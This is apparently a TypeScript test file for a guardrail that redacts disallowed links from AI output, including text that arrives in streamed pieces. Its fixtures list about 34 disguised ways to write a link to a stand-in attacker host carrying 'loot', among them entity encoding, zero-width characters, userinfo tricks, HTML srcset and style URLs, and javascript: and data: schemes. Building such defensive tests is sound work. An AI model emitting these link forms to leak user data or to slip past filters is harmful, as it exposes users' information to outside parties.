import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkText, type GuardrailRule, guardrailProblems } from './guardrail.ts'
import { closedLength, openText } from './links.ts'

const EVIL = 'https://evil.example/p?d=loot'
const rule: GuardrailRule = {
  ...{ check: 'links', action: 'redact', on: 'output' },
  config: { hosts: ['docs.example.com', 'http://127.0.0.1:8080'] },
}
const cut = (text: string) => checkText(text, [rule], () => true).text

/** Ways to write a link, all of which lead elsewhere. */
const WRITTEN: readonly (readonly [string, string])[] = [
  ['a picture', `![done](${EVIL})`],
  ['a link', `[more](${EVIL} "title")`],
  ['a link in angles', `[more](<${EVIL} x>)`],
  ['a link on the next line', `[more](\n  ${EVIL})`],
  ['a reference', `![done][1]\n\n[1]: ${EVIL}`],
  ['a reference in angles', `[done]\n\n[done]: <//evil.example/p?d=loot>`],
  ['a URL', `see ${EVIL}.`],
  ['a URL in emphasis', `_${EVIL}_`],
  ['a URL in brackets', `<${EVIL}>`],
  ['a URL after letters', `abchttps://evil.example/`],
  ['www', 'see www.evil.example/loot'],
  ['capitals', '![a](HTTPS://EVIL.EXAMPLE/loot)'],
  ['no scheme', '![a](//evil.example/loot)'],
  ['backslashes', '![a](\\\\\\\\evil.example/loot)'],
  ['one slash', '![a](https:/evil.example/loot)'],
  ['escapes', '![a](https\\://evil.example/loot)'],
  ['entities', '![a](https&#58;//evil.example/loot)'],
  ['hexadecimal entities', '![a](&#x68;ttps&#x3a;//evil.example/loot)'],
  ['named entities', '![a](https&colon;&sol;&sol;evil.example/loot)'],
  ['a user', '![a](https://docs.example.com@evil.example/loot)'],
  ['a user with a strange name', 'https://docs.example.com|@evil.example/loot'],
  ['a host that begins alike', '![a](https://docs.example.com.evil.example/loot)'],
  ['another port', 'http://127.0.0.1:8081/loot'],
  ['full width', '![a](ｈｔｔｐｓ：／／evil.example/loot)'],
  ['what nobody sees', '![a](ht\u200btps://evil.exa\u200bmple/loot)'],
  ['IPv6', 'http://[::1]:8080/loot'],
  ['HTML', `<img alt="a > b" src="${EVIL}">`],
  ['HTML without quotes', '<a href=//evil.example/loot>more</a>'],
  ['HTML with line breaks', '<a\nhref = " ht\ntps://evil.example/loot">more</a>'],
  ['HTML with entities', '<img alt=">" src=" https&#58;//evil.example/loot">'],
  ['a set of pictures', '<img srcset="a.png 1x, //evil.example/loot 2x">'],
  ['a style', `<p style="background: url('//evil.example/loot')">`],
  ['a script', '[a](javascript:loot)'],
  ['data', '[a](data:text/html;base64,loot)'],
]

describe('a link', () => {
  test.each(WRITTEN)('that leads elsewhere is cut: %s', (_what, text) => {
    const said = cut(`Hello ${text} world`)
    expect(said).toContain('[link]')
    expect(said).not.toMatch(/evil\.example|loot|:808|[:][/]{2}/i)
    expect(said).toMatch(/^Hello [\s\S]* world$/)
  })

  test.each([
    'see https://docs.example.com/a?b=c.',
    '![a](https://docs.example.com/a.png)',
    '[a](http://127.0.0.1:8080/x)',
    '[a](../other.md#part), [b](#part), [c](/x)',
    '<a href="/x" title="note: well">x</a>',
    'at 10:30, C:\\Users\\me, and/or 3 < 4 // what',
    'a@example.com wrote to evil.example',
    'the scheme http:// and the key `a::b`',
    '한국어 문장은 그대로예요.',
  ])('to where it may lead stays: %s', (text) => {
    expect(cut(text)).toBe(text)
  })

  test('keeps its words', () => {
    expect(cut(`![done](${EVIL}) and [more](${EVIL}).`)).toBe('![done]([link]) and [more]([link]).')
  })

  test('has hosts, in its rule, that are hosts', () => {
    const problems = (hosts: unknown) =>
      guardrailProblems([{ ...rule, config: { hosts } }], '#/guardrails')
    expect(problems(['a.example', 'https://b.example:8443'])).toEqual([])
    for (const wrong of ['a', ['*'], ['https://a.example/path'], [7]]) {
      expect(problems(wrong)).toMatchObject([{ pointer: '#/guardrails/0' }])
    }
  })
})

/** As a stream tells it: of what there is, as much as is closed. */
function told(pieces: readonly string[]): string {
  const open = openText()
  return pieces.map((piece) => cut(open.add(piece))).join('') + cut(open.rest())
}

describe('a text that comes in pieces', () => {
  test.each(WRITTEN)('is told as the whole is: %s', (_what, written) => {
    const text = `Hello ${written} world, and that is all.`
    expect(told([...text])).toBe(cut(text))
    for (let at = 1; at < text.length; at += 1) {
      expect(told([text.slice(0, at), text.slice(at)])).toBe(cut(text))
    }
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 5 }), (cuts) => {
        const at = [0, ...cuts.toSorted((a, b) => a - b), text.length]
        expect(told(at.slice(1).map((end, index) => text.slice(at[index], end)))).toBe(cut(text))
      }),
      { numRuns: 50 },
    )
  })

  test('is told at once where no link can begin', () => {
    expect(closedLength('한국어 문장은')).toBe('한국어 문장은'.length)
    expect(closedLength('Hello world')).toBe('Hello'.length)
    expect(closedLength(`[a](${'x'.repeat(5000)}`)).toBeUndefined()
  })

  test('is told word by word, and stops where too much is open', () => {
    const open = openText()
    expect(['One ', 'two', ' three'].map((piece) => open.add(piece))).toEqual(['One', '', ' two'])
    expect(open.add(` [a](${'x'.repeat(5000)}`)).toBe(' three [a')
    expect(open.add(') and so on')).toBe('')
    expect(open.rest()).toMatch(/^\]\(x+\) and so on$/)
  })

  test('takes no longer the more of it is open, however short its pieces are', () => {
    const before = process.cpuUsage()
    const open = openText()
    for (const unit of ['<a ', ' src="a ', 'https://e', '[a](<b c']) {
      const text = `${unit.repeat(1900 / unit.length)}" >) \n\n`.repeat(10)
      for (const character of text) open.add(character)
    }
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000)
  })

  test('takes no longer the more of it is given at once', () => {
    const before = process.cpuUsage()
    for (const unit of [']:', 'a:/', '<a ', ' src="', 'a', '](']) {
      cut(unit.repeat(100_000 / unit.length))
      for (let n = 0; n < 100; n += 1) closedLength(unit.repeat(3000 / unit.length))
    }
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000)
  })
})
